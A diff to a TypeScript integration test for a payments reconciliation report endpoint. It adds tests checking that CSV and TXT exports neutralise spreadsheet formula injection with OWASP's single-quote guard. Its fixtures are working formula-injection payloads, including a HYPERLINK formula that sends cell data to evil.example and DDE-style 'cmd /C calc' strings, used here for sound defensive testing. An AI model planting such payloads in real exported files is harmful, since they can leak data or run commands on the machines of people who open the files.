@@ -4,7 +4,7 @@ import { isoSeconds } from '../../../src/orders/iso-seconds';
 import { REPORT_COLUMNS } from '../../../src/reports/movement-row';
 import { startPaymentStack, PaymentStack } from '../../support/payment-stack';
 import { payer as user, pixQr } from '../../support/qr-fixtures';
-import { parseCsv, parseTxt, Row, utcDay } from '../../support/report-files';
+import { csvCellsAsSpreadsheet, isFormulaCell, parseCsv, parseTxt, Row, txtCellsAsSpreadsheet, unguarded, utcDay } from '../../support/report-files';
 import { createTestClient, http, TestApi, TestClient } from '../../support/test-api';
 
 const PATH = '/v2/reports/conciliation/payins';
@@ -30,14 +30,23 @@ describe('GET /v2/reports/conciliation/payins', () => {
   }
 
   /** An order written straight to the table, as its workflow would have left it. */
-  async function insertOrder(fields: { payer?: string; collector?: string; status: string; createdAt: string; decided?: boolean; errorCode?: string }) {
+  async function insertOrder(fields: {
+    payer?: string;
+    collector?: string;
+    status: string;
+    createdAt: string;
+    decided?: boolean;
+    errorCode?: string;
+    reference?: string;
+    merchantName?: string;
+  }) {
     const id = randomUUID();
     await dataSource.query(
       `INSERT INTO orders (id, flow, status, last_seq, payer_client_id, collector_client_id, external_reference, payment_notification_url,
                            local_country, local_currency, local_amount, user_currency, user_amount, fx_rate, merchant_name,
                            merchant_identification_number, error_code, expires_at, created_at, updated_at,
                            collector_external_reference, collector_notification_url)
-       VALUES ($1, CASE WHEN $4::uuid IS NULL THEN 'QR' ELSE 'COLLECTION' END, $2, 4, $3, $4, $5, $6, 'BR', 'BRL', 50, 'USD', 9.31, 0.1862, 'Loja Direta', '12345678000199', $7,
+       VALUES ($1, CASE WHEN $4::uuid IS NULL THEN 'QR' ELSE 'COLLECTION' END, $2, 4, $3, $4, $5, $6, 'BR', 'BRL', 50, 'USD', 9.31, 0.1862, $10, '12345678000199', $7,
                $8::timestamptz + interval '10 minutes', $8, $8::timestamptz + interval '1 minute',
                $9, CASE WHEN $4::uuid IS NULL THEN NULL ELSE 'https://example.com/collector' END)`,
       [
@@ -45,11 +54,12 @@ describe('GET /v2/reports/conciliation/payins', () => {
         fields.status,
         fields.payer ?? null,
         fields.collector ?? null,
-        `direct-${id}`,
+        fields.reference ?? `direct-${id}`,
         fields.decided ? 'https://example.com/hook' : null,
         fields.errorCode ?? null,
         fields.createdAt,
         fields.collector ? `collected-${id}` : null,
+        fields.merchantName ?? 'Loja Direta',
       ],
     );
     return id;
@@ -80,34 +90,36 @@ describe('GET /v2/reports/conciliation/payins', () => {
     );
   }
 
+  type Payer = Awaited<ReturnType<PaymentStack['newPayer']>>;
+
+  /** A preview then a decision, over HTTP; resolves with the order id once it reached `final`. */
+  async function pay(payer: Payer, amount: string, decision: 'accepted' | 'rejected', final: string, reference = `ref-${randomUUID()}`, merchant?: string) {
+    const path = `/hooks/${randomUUID()}`;
+    const url = stack.receiver.url(path);
+    const preview = await payer.call.post('/v2/payments/previews', { qr: pixQr(amount, merchant), external_reference: reference, notification_url: url, user });
+    expect(preview.status).toBe(200);
+    const orderId = (await stack.receiver.waitFor(path, (c) => c.body.order !== undefined)).body.order.id as string;
+    await payer.call.post('/v2/payments', { order_id: orderId, status: decision, notification_url: url });
+    await stack.receiver.waitFor(path, (c) => c.body.status === final);
+    return orderId;
+  }
+
   describe('a payer with real payments and refunds', () => {
-    let payer: Awaited<ReturnType<PaymentStack['newPayer']>>;
+    let payer: Payer;
     let stranger: TestClient;
     const ids: Record<'completed' | 'canceled' | 'rejected' | 'unfunded', string> = { completed: '', canceled: '', rejected: '', unfunded: '' };
     const trickyReference = `ref-${randomUUID().slice(0, 8)}, "quoted" | piped\nnext line`;
     const trickyMerchant = 'Bar "Ze", A|B';
 
-    /** A preview then a decision, over HTTP; resolves with the order id once it reached `final`. */
-    async function pay(amount: string, decision: 'accepted' | 'rejected', final: string, reference = `ref-${randomUUID()}`, merchant?: string) {
-      const path = `/hooks/${randomUUID()}`;
-      const url = stack.receiver.url(path);
-      const preview = await payer.call.post('/v2/payments/previews', { qr: pixQr(amount, merchant), external_reference: reference, notification_url: url, user });
-      expect(preview.status).toBe(200);
-      const orderId = (await stack.receiver.waitFor(path, (c) => c.body.order !== undefined)).body.order.id as string;
-      await payer.call.post('/v2/payments', { order_id: orderId, status: decision, notification_url: url });
-      await stack.receiver.waitFor(path, (c) => c.body.status === final);
-      return orderId;
-    }
-
     beforeAll(async () => {
       payer = await stack.newPayer({ USD: '1000.00' });
       stranger = await createTestClient(api, 'Stranger');
-      ids.completed = await pay('100.00', 'accepted', 'COMPLETED', trickyReference, trickyMerchant);
-      ids.canceled = await pay('10.00', 'rejected', 'CANCELED');
+      ids.completed = await pay(payer, '100.00', 'accepted', 'COMPLETED', trickyReference, trickyMerchant);
+      ids.canceled = await pay(payer, '10.00', 'rejected', 'CANCELED');
       // Sandbox magic value: the destination refuses 1313.13.
-      ids.rejected = await pay('1313.13', 'accepted', 'REJECTED');
+      ids.rejected = await pay(payer, '1313.13', 'accepted', 'REJECTED');
       // About 9,000 USD against 1,000 available.
-      ids.unfunded = await pay('49000.00', 'accepted', 'FAILED');
+      ids.unfunded = await pay(payer, '49000.00', 'accepted', 'FAILED');
       // The refund API is another issue's: its rows, as it will write them.
       await insertRefund(ids.completed, { seq: 1, status: 'COMPLETED', localAmount: '40.00', userAmount: '7.45', requestedBy: payer.clientId });
       await insertRefund(ids.completed, { seq: 2, status: 'PENDING', localAmount: '10.50', userAmount: null, requestedBy: payer.clientId });
@@ -166,6 +178,70 @@ describe('GET /v2/reports/conciliation/payins', () => {
       expect(response.status).toBe(200);
       expect(response.body).toBe(`${REPORT_COLUMNS.join(',')}\r\n`);
       expect((await report(stranger, `from=${utcDay(-1)}&to=${utcDay(1)}&format=txt`)).body).toBe(`${REPORT_COLUMNS.join('|')}\n`);
+    });
+  });
+
+  describe('references and merchant names that a spreadsheet would take for formulas', () => {
+    let payer: Payer;
+    /** What each order was created with, by its id. */
+    const sent = new Map<string, { reference: string; merchant: string }>();
+
+    beforeAll(async () => {
+      payer = await stack.newPayer({ USD: '1000.00' });
+      // Through the API and a real QR: the merchant name is what the rail resolved from the QR's
+      // tag 59 (at most 25 characters). The second reference opens a cell after an inner pipe for
+      // a spreadsheet importing the txt file, the third after a semicolon for one reading the csv
+      // with its locale's list separator.
+      const paid: Array<[string, string]> = [
+        ['=HYPERLINK("https://evil.example/?d="&A1,"Open invoice")', '@SUM(1+1)*cmd|"/C calc"'],
+        ['+55 11 5555-0000|=HYPERLINK("https://evil.example")', "-2+3+cmd|' /C calc'!A0"],
+        ['@SUM(A1:A9);=1+2', '=HYPERLINK("http://x.io")'],
+        ["-1|'quoted'", "'=1+2"],
+      ];
+      for (const [reference, merchant] of paid) {
+        const orderId = await pay(payer, '10.00', 'accepted', 'COMPLETED', reference, merchant);
+        sent.set(orderId, { reference, merchant });
+      }
+      // A leading tab or carriage return cannot come through the API (references are trimmed, QR
+      // text is printable ASCII) but can from a rail's merchant data: written as the order would hold them.
+      for (const [reference, merchant] of [
+        ['\t=1+2', '\r=HYPERLINK("https://evil.example")'],
+        ['\r@SUM(A1)', '\t+1+1'],
+      ] as const) {
+        const orderId = await insertOrder({ payer: payer.clientId, status: 'COMPLETED', createdAt: new Date().toISOString(), decided: true, reference, merchantName: merchant });
+        sent.set(orderId, { reference, merchant });
+      }
+      const stored: Array<{ id: string; external_reference: string; merchant_name: string }> = await dataSource.query(
+        'SELECT id, external_reference, merchant_name FROM orders WHERE id = ANY($1)',
+        [[...sent.keys()]],
+      );
+      // The fixtures reached the table unchanged: the file is what is under test.
+      expect(Object.fromEntries(stored.map((order) => [order.id, { reference: order.external_reference, merchant: order.merchant_name }]))).toEqual(Object.fromEntries(sent));
+    }, 120_000);
+
+    const period = () => `from=${utcDay(-1)}&to=${utcDay(1)}`;
+
+    it('has no cell a spreadsheet would evaluate, in the csv or the txt file', async () => {
+      const csv = await report(payer, `${period()}&format=csv`);
+      const txt = await report(payer, `${period()}&format=txt`);
+      expect([csv.status, txt.status]).toEqual([200, 200]);
+      expect(parseCsv(csv.body)).toHaveLength(sent.size);
+
+      expect(csvCellsAsSpreadsheet(csv.body).filter(isFormulaCell)).toEqual([]);
+      expect(txtCellsAsSpreadsheet(txt.body).filter(isFormulaCell)).toEqual([]);
+      // Each guarded cell begins with the single quote, OWASP's guard, as a spreadsheet shows it.
+      expect(csvCellsAsSpreadsheet(csv.body)).toEqual(
+        expect.arrayContaining([`'=HYPERLINK("https://evil.example/?d="&A1,"Open invoice")`, `'\t=1+2`, `'\r=HYPERLINK("https://evil.example")`]),
+      );
+    });
+
+    it('gives an integrator every value back exactly, by dropping the guard, and both formats agree', async () => {
+      const csvRows = parseCsv((await report(payer, `${period()}&format=csv`)).body);
+      const txtRows = parseTxt((await report(payer, `${period()}&format=txt`)).body);
+      expect(txtRows).toEqual(csvRows);
+      expect(Object.fromEntries(csvRows.map(unguarded).map((row) => [row.order_id, { reference: row.external_reference, merchant: row.merchant_name }]))).toEqual(Object.fromEntries(sent));
+      // The amounts are numbers, never guarded.
+      expect(csvRows.map((row) => row.local_amount)).toEqual(expect.arrayContaining(['10.00', '50.00']));
     });
   });
 
